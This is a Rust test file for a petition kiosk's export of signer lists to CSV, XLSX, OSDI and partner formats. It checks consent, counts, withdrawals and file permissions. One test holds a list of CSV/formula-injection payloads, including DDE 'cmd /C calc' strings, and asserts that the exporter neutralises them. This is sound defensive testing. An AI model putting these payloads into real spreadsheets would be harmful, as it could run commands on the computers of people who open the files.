//! Lists for other systems: nobody is subscribed who did not ask, everybody is counted, and words
//! stay words in a spreadsheet.

#![allow(
    clippy::expect_used,
    clippy::panic,
    reason = "a test fails by panicking"
)]

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::io::Cursor;

use calamine::{Data, Reader as _, Xlsx};
use common::{Demo, failure, run};
use ledger::Record;
use petition::TextHash;
use petition_kiosk::export::{Drive, Export, Format, Group, Part, export};
use proptest::prelude::*;
use serde_json::{Value, json};

const TITLE: &str = "Tell Congress";
const EVENTS: &[(&str, &str)] = &[("dupont-circle", "Dupont Circle")];

fn text() -> TextHash {
    "ab".repeat(32).parse().expect("a hash")
}

/// An opened record whose signature has these fields, as a ledger could hold it.
fn record(seq: u64, fields: Value) -> Record {
    let mut signature =
        json!({ "given_name": "", "family_name": "", "language": "en", "text_hash": text() });
    signature
        .as_object_mut()
        .expect("an object")
        .extend(fields.as_object().expect("an object").clone());
    let id = format!("00000000-0000-4000-8000-{seq:012}");
    let line = json!({
        "campaign": id, "station": "00000000-0000-4000-8000-0000000000aa", "seq": seq, "id": id,
        "signed_at": "2026-05-23T10:00:00-04:00", "event": "dupont-circle", "signature": signature,
    });
    serde_json::from_value(line).expect("a record")
}

fn exported(format: Format, records: &[Record]) -> Export {
    let (tags, texts) = (["petition".to_owned()], [text()]);
    export(
        format,
        &Drive {
            title: TITLE,
            events: EVENTS,
            tags: &tags,
            texts: &texts,
        },
        records,
    )
    .expect("exported")
}

/// The rows of a list, each cell under its heading.
fn table(part: &Part) -> Vec<BTreeMap<String, String>> {
    let bytes = part
        .bytes
        .strip_prefix("\u{feff}".as_bytes())
        .unwrap_or(&part.bytes);
    csv::Reader::from_reader(bytes)
        .deserialize()
        .map(|row| row.expect("a row"))
        .collect()
}

/// The rows of a workbook; every cell must be text.
fn book(part: &Part) -> Vec<BTreeMap<String, String>> {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(&part.bytes)).expect("a workbook");
    let formulas = book.worksheet_formula("Signatures").expect("formulas");
    assert!(formulas.used_cells().next().is_none(), "a formula");
    let range = book.worksheet_range("Signatures").expect("a sheet");
    let mut rows = range.rows().map(|row| {
        row.iter()
            .map(|cell| match cell {
                Data::String(words) => words.clone(),
                Data::Empty => String::new(),
                other => panic!("not text: {other:?}"),
            })
            .collect::<Vec<_>>()
    });
    let headings = rows.next().expect("headings");
    rows.map(|row| headings.iter().cloned().zip(row).collect())
        .collect()
}

fn lines(part: &Part) -> Vec<Value> {
    std::str::from_utf8(&part.bytes)
        .expect("UTF-8")
        .lines()
        .map(|line| serde_json::from_str(line).expect("JSON"))
        .collect()
}

/// What a file says of each signer, as words: whatever the file, a value that is in it is found.
fn rows(part: &Part) -> Vec<String> {
    match part.name.rsplit('.').next().expect("an ending") {
        "csv" => table(part).iter().map(|row| format!("{row:?}")).collect(),
        "xlsx" => book(part).iter().map(|row| format!("{row:?}")).collect(),
        "ndjson" => lines(part).iter().map(ToString::to_string).collect(),
        other => panic!("{other}"),
    }
}

/// A made-up signer: what they gave, and what they agreed to.
#[derive(Debug, Clone)]
struct Asked {
    email: bool,
    phone: bool,
    consents: Vec<&'static str>,
}

impl Asked {
    fn to(&self, id: &str) -> bool {
        self.consents.contains(&id)
    }

    fn record(&self, at: usize) -> Record {
        record(
            at as u64 + 1,
            json!({
                "given_name": "Maria", "family_name": format!("Signer{at}End"), "zip": "02134", "state": "MA", "consents": self.consents,
                "email": if self.email { format!("write{at}@example.org") } else { String::new() },
                "phone": if self.phone { format!("202-555-{at:04}") } else { String::new() },
            }),
        )
    }

    /// Whether a row tells a way of contact: the telephone number as typed or dialled.
    fn told(at: usize, row: &str) -> (bool, bool) {
        let phone =
            row.contains(&format!("202-555-{at:04}")) || row.contains(&format!("1202555{at:04}"));
        (row.contains(&format!("write{at}@example.org")), phone)
    }
}

fn asked() -> impl Strategy<Value = Vec<Asked>> {
    let consents = prop::sample::subsequence(vec!["email", "sms", "ally", "Ally!"], 0..=4);
    let one = (any::<bool>(), any::<bool>(), consents).prop_map(|(email, phone, consents)| Asked {
        email,
        phone,
        consents,
    });
    prop::collection::vec(one, 0..24)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn nobody_is_subscribed_to_what_they_did_not_ask_for_and_everybody_is_counted(asked in asked()) {
        let records: Vec<Record> = asked.iter().enumerate().map(|(at, asked)| asked.record(at)).collect();
        for &format in Format::ALL {
            let export = exported(format, &records);
            let names: BTreeSet<&str> = export.parts.iter().map(|part| part.name.as_str()).collect();
            prop_assert_eq!(names.len(), export.parts.len(), "two files of one name");
            let mut seen = vec![0; asked.len()];
            for part in &export.parts {
                let rows = rows(part);
                prop_assert_eq!(rows.len(), part.rows);
                for row in rows {
                    let at = (0..asked.len()).find(|at| row.contains(&format!("Signer{at}End"))).expect("a signer");
                    let (asked, (email, phone)) = (&asked[at], Asked::told(at, &row));
                    seen[at] += usize::from(!matches!(part.group, Group::Partner(_)));
                    let own_list = matches!(format, Format::Csv | Format::Xlsx) && !matches!(part.group, Group::Partner(_));
                    match &part.group {
                        Group::Email => prop_assert!(asked.to("email") && email && (own_list || !phone)),
                        Group::Texts => prop_assert!(asked.to("sms") && phone && (own_list || !email)),
                        Group::EmailAndTexts => prop_assert!(asked.to("email") && asked.to("sms") && email && phone),
                        Group::Partner(id) => prop_assert!(asked.to(id) && email != phone),
                        Group::Nobody => {
                            prop_assert!(!(asked.email && asked.to("email") || asked.phone && asked.to("sms")));
                            prop_assert_eq!((email, phone), (asked.email, asked.phone));
                        }
                        Group::NoContact | Group::Everyone | Group::OtherText => prop_assert!(!email && !phone),
                    }
                    // What a system reads of each person agrees with what they said.
                    let texts_too = matches!(part.group, Group::Texts | Group::EmailAndTexts);
                    let to_email = part.group.subscribes() && email && part.group != Group::Texts;
                    for (yes, no, expected) in [
                        ("\"email_opt_in\": \"Y\"", "\"email_opt_in\": \"N\"", to_email),
                        ("\"mobile_opt_in\": \"Y\"", "\"mobile_opt_in\": \"N\"", texts_too),
                        ("\"is_opt_out\": \"0\"", "\"is_opt_out\": \"1\"", to_email),
                        ("\"do_not_sms\": \"0\"", "\"do_not_sms\": \"1\"", texts_too),
                        ("\"may_email\": \"yes\"", "\"may_email\": \"no\"", to_email),
                        ("\"may_text\": \"yes\"", "\"may_text\": \"no\"", texts_too),
                        ("\"isSubscribed\":true", "\"isSubscribed\":false", to_email),
                        ("\"phoneOptInStatus\":\"I\"", "\"phoneOptInStatus\":\"O\"", texts_too),
                    ] {
                        prop_assert!(!row.contains(if expected { no } else { yes }), "{}: {row}", part.name);
                    }
                }
            }
            prop_assert!(seen.iter().all(|times| *times == 1), "{format:?}: everyone is in one group: {seen:?}");
            let of_no_partner = |group: &Group| !matches!(group, Group::Partner(_));
            let counted: usize = export.counts.iter().filter(|(group, _)| of_no_partner(group)).map(|(_, count)| count).sum();
            prop_assert_eq!(counted, records.len());
            for (group, count) in &export.counts {
                let rows: usize = export.parts.iter().filter(|part| part.group == *group).map(|part| part.rows).sum();
                prop_assert_eq!(rows, *count);
            }
        }
    }
}

/// What OWASP's page on CSV injection lists, and what is seen in the wild.
fn formulas() -> Vec<String> {
    let begins = [
        "=", "+", "-", "@", "\t=", "\r=", "\n=", "\r\n=", "＝", "＋", "－", "＠", "\0=", "\u{b}=",
    ];
    let before = [
        "", " ", "   ", "\u{a0}", "\u{3000}", "\"", "\"\"", "'", " \" ", "’", "\u{200b}",
        "\u{feff}", "\u{202e}",
    ];
    let breaks = [
        "",
        "x;",
        "x,",
        "x\t",
        "x\n",
        "x\"\n",
        "x\";",
        "x\",\"",
        "x\u{2028}",
    ];
    let mut all = vec![
        "=1+1".to_owned(),
        "=cmd|' /C calc'!A0".to_owned(),
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")".to_owned(),
        "@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
        "=HYPERLINK(\"https://example.org?\"&A1,\"x\")".to_owned(),
        "=1+2\";=1+2".to_owned(),
        "=1+2'\" ;,=1+2".to_owned(),
    ];
    for begin in begins {
        for before in before {
            all.extend(
                breaks
                    .iter()
                    .map(|broken| format!("{broken}{before}{begin}1+1")),
            );
        }
    }
    all
}

/// A signer who wrote this into every field there is.
fn attacker(seq: u64, words: &str) -> Record {
    record(
        seq,
        json!({
            "given_name": words, "family_name": words, "email": words, "zip": words, "city": words, "state": words, "street": words,
            "phone": words, "comment": words, "language": words, "consents": ["email", "sms", "ally"],
        }),
    )
}

/// Whether a spreadsheet that leaves out blanks, quotes and what is unseen would run a cell. An
/// apostrophe makes it text.
fn runs(cell: &str) -> bool {
    let passed_over = |c: char| {
        c.is_whitespace()
            || c.is_control()
            || "\"“”„’‘".contains(c)
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{feff}')
    };
    cell.trim_start_matches(passed_over)
        .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

#[test]
fn no_cell_is_a_formula() {
    let formulas = formulas();
    let records: Vec<Record> = (1..)
        .zip(&formulas)
        .map(|(seq, words)| attacker(seq, words))
        .collect();
    for &format in Format::ALL {
        for part in exported(format, &records).parts {
            if part.name.ends_with(".xlsx") {
                let rows = book(&part);
                assert_eq!(rows.len(), formulas.len());
                for (row, words) in rows.iter().zip(&formulas) {
                    assert_eq!(row["given_name"], row["family_name"]);
                    assert_eq!(
                        &written(&row["given_name"]),
                        words,
                        "a workbook keeps every letter"
                    );
                }
                continue;
            }
            if !part.name.ends_with(".csv") {
                continue;
            }
            assert!(part.guarded >= formulas.len(), "{part:?}");
            // As a reader reads it that counts with commas, semicolons or tabs, and one that knows
            // no quotes.
            for delimiter in [b',', b';', b'\t'] {
                for quoting in [true, false] {
                    let mut reader = csv::ReaderBuilder::new();
                    reader
                        .delimiter(delimiter)
                        .quoting(quoting)
                        .flexible(true)
                        .has_headers(false);
                    let mut cells = 0;
                    for row in reader.from_reader(&part.bytes[..]).records() {
                        for cell in &row.expect("a row") {
                            cells += 1;
                            assert!(
                                !runs(cell),
                                "{}: {cell:?} with {:?}, {quoting}",
                                part.name,
                                char::from(delimiter)
                            );
                        }
                    }
                    assert!(cells >= formulas.len());
                }
            }
        }
    }
}

/// The words of a cell, as a spreadsheet reads what a workbook escapes (ECMA-376, part 1,
/// 22.9.2.19).
fn written(cell: &str) -> String {
    let mut words = cell.to_owned();
    for c in ['\0', '\u{b}', '\r'] {
        words = words.replace(&format!("_x{:04X}_", u32::from(c)), &c.to_string());
    }
    words
}

#[test]
fn the_list_is_what_was_typed_where_nothing_would_run() {
    let typed = json!({
        "given_name": "Siobhán \"Sio\"", "family_name": "O’Brien, Jr.", "email": "o'brien@example.org", "zip": "02134", "city": "Allston",
        "state": "MA", "street": "0017 Main St; Apt 00042", "phone": "00442079460000", "comment": "Two\nlines, 12345678901234567890",
        "consents": ["email"],
    });
    let record = record(1, typed.clone());
    let lists = [
        table(&exported(Format::Csv, std::slice::from_ref(&record)).parts[0]),
        book(&exported(Format::Xlsx, &[record]).parts[0]),
    ];
    for rows in lists {
        for (field, words) in typed
            .as_object()
            .expect("an object")
            .iter()
            .filter(|(field, _)| *field != "consents")
        {
            assert_eq!(rows[0][field], words.as_str().expect("words"), "{field}");
        }
        assert_eq!(
            (rows[0]["may_email"].as_str(), rows[0]["may_text"].as_str()),
            ("yes", "no")
        );
    }
}

#[test]
fn every_line_for_osdi_is_as_osdi_says() {
    let schema: Value = serde_json::from_str(include_str!("osdi.schema.json")).expect("JSON");
    let schema = jsonschema::validator_for(&schema).expect("a schema");
    let full = json!({
        "given_name": "Maria", "family_name": "Lopez", "email": "maria@example.org", "phone": "202-555-0147 x2", "zip": "02134",
        "city": "Allston", "state": "MA", "street": "1 Main St", "comment": "Please.", "language": "zh-Hans",
        "consents": ["email", "sms", "ally"],
    });
    let mut records = vec![record(1, full.clone())];
    for left_out in [
        "email", "phone", "zip", "city", "state", "street", "comment",
    ] {
        let mut less = full.clone();
        less[left_out] = "".into();
        records.push(record(records.len() as u64 + 1, less));
    }
    let mut local = full.clone();
    local["phone"] = "555-0147".into();
    records.push(record(99, local));
    let mut checked = 0;
    let parts = exported(Format::Osdi, &records).parts;
    for part in &parts {
        for line in lines(part) {
            let errors: Vec<String> = schema
                .iter_errors(&line)
                .map(|error| format!("{error} at {}", error.instance_path()))
                .collect();
            assert!(errors.is_empty(), "{line}: {errors:?}");
            checked += 1;
        }
    }
    assert!(checked >= 2 * records.len(), "{checked}");
    let both = parts
        .iter()
        .find(|part| part.group == Group::EmailAndTexts)
        .expect("both");
    let line = &lines(both)[0];
    assert_eq!(line["person"]["phone_numbers"][0]["number"], "12025550147");
    assert_eq!(
        (
            &line["person"]["given_name"],
            &line["person"]["family_name"]
        ),
        (&"Maria".into(), &"Lopez".into())
    );
    assert_eq!(line["action_date"], "2026-05-23T14:00:00Z");
    // The schema is of some use.
    let mut wrong = line.clone();
    wrong["person"]["email_addresses"][0]["status"] = "Subscribed".into();
    assert!(!schema.is_valid(&wrong));
}

#[test]
fn who_signed_another_text_is_not_delivered_with_this_one() {
    let other = record(
        2,
        json!({ "family_name": "Elsewhere", "text_hash": "cd".repeat(32) }),
    );
    let export = exported(
        Format::Delivery,
        &[
            record(
                1,
                json!({ "family_name": "Here", "email": "here@example.org" }),
            ),
            other,
        ],
    );
    let files: Vec<(&str, usize)> = export
        .parts
        .iter()
        .map(|part| (part.name.as_str(), part.rows))
        .collect();
    assert_eq!(files, [("delivery.csv", 1), ("delivery-other-text.csv", 1)]);
    assert_eq!(table(&export.parts[0])[0]["family_name"], "Here");
}

#[test]
fn nationbuilder_takes_no_more_than_20_mb_a_file() {
    let comment = "x".repeat(1_000);
    let one = record(
        1,
        json!({ "family_name": "Lopez", "email": "maria@example.org", "consents": ["email"], "comment": comment }),
    );
    let export = exported(Format::NationBuilder, &vec![one; 18_000]);
    let names: Vec<&str> = export.parts.iter().map(|part| part.name.as_str()).collect();
    assert_eq!(
        names,
        [
            "nationbuilder-subscribe-email-001.csv",
            "nationbuilder-subscribe-email-002.csv"
        ]
    );
    assert!(
        export
            .parts
            .iter()
            .all(|part| part.bytes.len() <= 20_000_000)
    );
    assert_eq!(
        export
            .parts
            .iter()
            .map(|part| table(part).len())
            .sum::<usize>(),
        18_000
    );
}

/// Exports the demo by the command line; answers with the index, the files' bytes and what was
/// said.
fn by_command(
    demo: &Demo,
    format: &str,
    folder: &str,
) -> (Value, BTreeMap<String, Vec<u8>>, String) {
    let (campaign, ledger, passphrase, output) = (
        demo.campaign(),
        demo.ledger(),
        demo.passphrase(),
        demo.at(folder),
    );
    let place = [
        "export",
        "--campaign",
        &campaign,
        "--ledger",
        &ledger,
        "--passphrase-file",
        &passphrase,
    ];
    let done = run(
        demo.home.path(),
        &[
            &place[..],
            &["--format", format, "-o", &output, "--tag", "petition"],
        ]
        .concat(),
    );
    assert!(
        done.status.success(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
    let mut files = BTreeMap::new();
    for entry in fs::read_dir(demo.path(folder))
        .expect("listed")
        .map(|entry| entry.expect("an entry"))
    {
        files.insert(
            entry.file_name().to_string_lossy().into_owned(),
            fs::read(entry.path()).expect("read"),
        );
    }
    let index = files
        .remove(&format!("{format}-index.json"))
        .expect("an index");
    (
        serde_json::from_slice(&index).expect("JSON"),
        files,
        String::from_utf8(done.stdout).expect("UTF-8"),
    )
}

#[test]
fn the_command_prints_counts_that_add_up_and_the_index_names_every_file() {
    let demo = Demo::new(60);
    let roll = demo.roll(&demo.ledger());
    for format in Format::ALL.iter().map(|format| format.name()) {
        let (index, files, said) = by_command(&demo, format, format);
        let counts: u64 = index["counts"]
            .as_object()
            .expect("counts")
            .values()
            .filter_map(Value::as_u64)
            .sum();
        assert_eq!(
            (counts, index["signatures"].as_u64()),
            (60, Some(60)),
            "{format}"
        );
        let printed: u64 = said
            .lines()
            .filter_map(|line| line.trim_start().split_once(' ')?.0.parse::<u64>().ok())
            .sum();
        assert_eq!(printed, 120, "the groups and their sum: {said}");
        let listed = index["files"].as_array().expect("files");
        assert_eq!(listed.len(), files.len(), "no other file");
        for file in listed {
            let bytes = &files[file["file"].as_str().expect("a name")];
            assert_eq!(
                file["blake3"].as_str().expect("a hash"),
                blake3::hash(bytes).to_hex().as_str()
            );
        }
        assert!(
            !index.to_string().contains("Maria") && !index.to_string().contains('@'),
            "the index names nobody"
        );
        assert_eq!(
            files,
            by_command(&demo, format, format).1,
            "the same roll, the same bytes"
        );
    }
    let delivery = fs::read_to_string(demo.path("delivery/delivery.csv")).expect("read");
    assert!(
        delivery.contains("Maria") && !delivery.contains('@') && !delivery.contains("2026"),
        "names and places only"
    );
    let subscribed =
        fs::read_to_string(demo.path("action-network/action-network-subscribe-email.csv"))
            .expect("read");
    for line in roll.iter().filter(|line| line["email"] != "") {
        let asked = line["consents"]
            .as_array()
            .expect("consents")
            .contains(&"email".into());
        assert_eq!(
            subscribed.contains(line["email"].as_str().expect("words")),
            asked
        );
    }
}

#[test]
fn who_was_withdrawn_is_in_no_file_and_in_none_of_an_earlier_export() {
    let demo = Demo::new(20);
    by_command(&demo, "csv", "lists");
    let roll = demo.roll(&demo.ledger());
    let gone = roll
        .iter()
        .find(|line| line["email"] != "")
        .expect("one with an address");
    let (campaign, ledger, passphrase) = (demo.campaign(), demo.ledger(), demo.passphrase());
    let place = [
        "decide",
        "--campaign",
        &campaign,
        "--ledger",
        &ledger,
        "--passphrase-file",
        &passphrase,
    ];
    let done = run(
        demo.home.path(),
        &[
            &place[..],
            &[gone["id"].as_str().expect("an id"), "withdrawn"],
        ]
        .concat(),
    );
    assert!(
        done.status.success(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
    let (index, files, said) = by_command(&demo, "csv", "lists");
    let counts: u64 = index["counts"]
        .as_object()
        .expect("counts")
        .values()
        .filter_map(Value::as_u64)
        .sum();
    assert_eq!((counts, &index["not_counted"]), (19, &json!(1)));
    assert!(said.contains("1 more do not count"), "{said}");
    let address = gone["email"].as_str().expect("words");
    assert!(
        files
            .values()
            .all(|bytes| !String::from_utf8_lossy(bytes).contains(address))
    );
}

#[test]
fn what_is_not_written_again_goes_and_other_files_stay() {
    let demo = Demo::new(30);
    let (_, files, _) = by_command(&demo, "csv", "lists");
    by_command(&demo, "xlsx", "lists");
    // An index of an earlier export that had a further file, which someone has changed since, and
    // one that nobody has.
    let index = demo.path("lists/csv-index.json");
    let mut words: Value = serde_json::from_slice(&fs::read(&index).expect("read")).expect("JSON");
    for (name, now) in [
        ("csv-partner-old.csv", "old"),
        ("csv-partner-mended.csv", "mended"),
    ] {
        let entry = json!({
            "file": name, "group": "partner-old", "signatures": 1, "guarded_cells": 0, "blake3": blake3::hash(b"old").to_hex().as_str(),
        });
        words["files"].as_array_mut().expect("files").push(entry);
        fs::write(demo.path("lists").join(name), now).expect("written");
    }
    fs::write(&index, words.to_string()).expect("written");
    let (_, again, _) = by_command(&demo, "csv", "lists");
    assert!(!again.contains_key("csv-partner-old.csv"));
    assert!(again.contains_key("csv-partner-mended.csv") && again.contains_key("xlsx-index.json"));
    assert!(files.iter().all(|(name, bytes)| again[name] == *bytes));
}

#[cfg(unix)]
#[test]
fn only_the_owner_may_read_what_was_exported() {
    use std::os::unix::fs::PermissionsExt as _;
    let demo = Demo::new(5);
    by_command(&demo, "csv", "lists");
    for entry in fs::read_dir(demo.path("lists"))
        .expect("listed")
        .map(|entry| entry.expect("an entry"))
    {
        assert_eq!(
            entry.metadata().expect("known").permissions().mode() & 0o777,
            0o600,
            "{:?}",
            entry.file_name()
        );
    }
}

#[test]
fn what_cannot_be_exported_is_one_sentence() {
    let demo = Demo::new(0);
    let (campaign, ledger, passphrase) = (demo.campaign(), demo.ledger(), demo.passphrase());
    let place = [
        "export",
        "--campaign",
        &campaign,
        "--ledger",
        &ledger,
        "--passphrase-file",
        &passphrase,
        "--format",
    ];
    let said = failure(
        demo.home.path(),
        &[&place[..], &["csv", "-o", &demo.at("lists")]].concat(),
        1,
    );
    assert!(said.contains("no signature to export"), "{said}");
    assert!(!demo.path("lists").exists());

    let demo = Demo::new(2);
    let (campaign, ledger, passphrase) = (demo.campaign(), demo.ledger(), demo.passphrase());
    let place = [
        "export",
        "--campaign",
        &campaign,
        "--ledger",
        &ledger,
        "--passphrase-file",
        &passphrase,
        "--format",
    ];
    let said = failure(
        demo.home.path(),
        &[&place[..], &["csv", "-o", &passphrase]].concat(),
        1,
    );
    assert!(said.contains("could not be written"), "{said}");
    assert_eq!(
        run(
            demo.home.path(),
            &[&place[..], &["dbase", "-o", &demo.at("lists")]].concat()
        )
        .status
        .code(),
        Some(2)
    );
}
